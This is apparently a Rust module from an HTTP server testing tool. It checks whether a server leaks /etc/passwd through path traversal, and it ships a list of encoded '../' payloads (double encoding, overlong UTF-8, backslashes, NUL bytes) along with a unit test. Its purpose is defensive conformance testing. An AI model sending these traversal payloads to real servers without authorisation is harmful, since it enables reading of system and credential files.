//! Paths that lead out of what is served.

use crate::attack::answers;
use crate::attack::context::Context;
use crate::attack::definition::Attack;
use crate::attack::evidence::{Evidence, Findings, Mark};

/// The most bytes of a body that are looked at.
const KEPT: usize = 64 << 10;
/// A file that is on every Unix host; its first line begins with this.
const MARK_OF_PASSWD: &str = "root:x:0:0:";

pub(super) const ATTACK: Attack = Attack {
    id: "path-traversal",
    what: "asks for /etc/passwd through dots, encoded dots, overlong UTF-8, backslashes and NULs",
    source: "CWE-22; CVE-2021-41773 and CVE-2021-42013; RFC 3986, 5.2.4; RFC 3629, 10",
    correct: "400 or 404, or the resource that the normalized path leads to; never a file outside the served folder",
    memory: None,
    launch: |context| Box::pin(launch(context)),
};

/// Encodings of `../`.
const UPWARD: [&str; 13] = [
    "../",
    "..%2f",
    "%2e%2e/",
    "%2e%2e%2f",
    ".%2e/",
    "..%252f",
    "%252e%252e%252f",
    "..%c0%af",
    "%c0%ae%c0%ae/",
    "..%5c",
    "..\\",
    "....//",
    "..;/",
];

async fn launch(context: &Context<'_>) -> Findings {
    let mut tried = Vec::new();
    for upward in UPWARD {
        tried.push(format!("/{}etc/passwd", upward.repeat(12)));
        tried.push(format!("{}{}etc/passwd", folder(&context.target.read.path), upward.repeat(12)));
    }
    tried.extend(["//etc/passwd", "/%2fetc/passwd", "/etc/passwd", "/..%00/etc/passwd"].map(str::to_owned));
    tried.push(format!("/{}etc/passwd%00.html", "../".repeat(12)));
    tried.dedup();
    let (mut evidence, mut seen) = (Vec::new(), std::collections::BTreeMap::new());
    for path in &tried {
        let mut request = context.read();
        request.path.clone_from(path);
        let bytes = context.head(&request, "Connection: close\r\n");
        let heard = match context.exchange(&bytes, context.bounds.answer).await {
            Ok(heard) => heard,
            Err(excuse) => {
                evidence.push(excuse.evidence(path));
                continue;
            }
        };
        match answers::first(&heard.bytes, KEPT) {
            Some(answer) if is_passwd(&answer.body) => {
                let what = format!("{path} discloses /etc/passwd");
                evidence.push(Evidence::new(Mark::Wrong, what).exchange(answers::shown(&bytes), answers::told(&heard)));
            }
            Some(answer) => *seen.entry(answer.status).or_insert(0_usize) += 1,
            None => {
                let (mark, what) = answers::unanswered(&heard, path);
                evidence.push(Evidence::new(mark, what).exchange(answers::shown(&bytes), answers::told(&heard)));
            }
        }
    }
    if !seen.is_empty() {
        let broken = seen.keys().any(|status| *status >= 500 && *status != 501);
        let told: Vec<String> = seen.iter().map(|(status, count)| format!("{count} with {status}")).collect();
        let what = format!("of {} paths {}, no file outside in them", tried.len(), told.join(", "));
        evidence.push(Evidence::new(if broken { Mark::Tolerated } else { Mark::Right }, what));
    }
    Ok(evidence)
}

/// Returns true if the body is the file itself, not a page that mentions it.
fn is_passwd(body: &[u8]) -> bool {
    String::from_utf8_lossy(body).lines().any(|line| line.starts_with(MARK_OF_PASSWD))
}

/// The folder of a path, with its slash at the end.
fn folder(path: &str) -> &str {
    let path = path.split('?').next().unwrap_or(path);
    &path[..path.rfind('/').map_or(0, |slash| slash + 1)]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_the_file_itself_is_a_disclosure() {
        assert!(is_passwd(b"root:x:0:0:root:/root:/bin/bash\n"));
        assert!(!is_passwd(b"<p>/etc/passwd begins with root:x:0:0: on every host</p>"));
        assert_eq!(folder("/a/b?c=/d"), "/a/");
    }
}
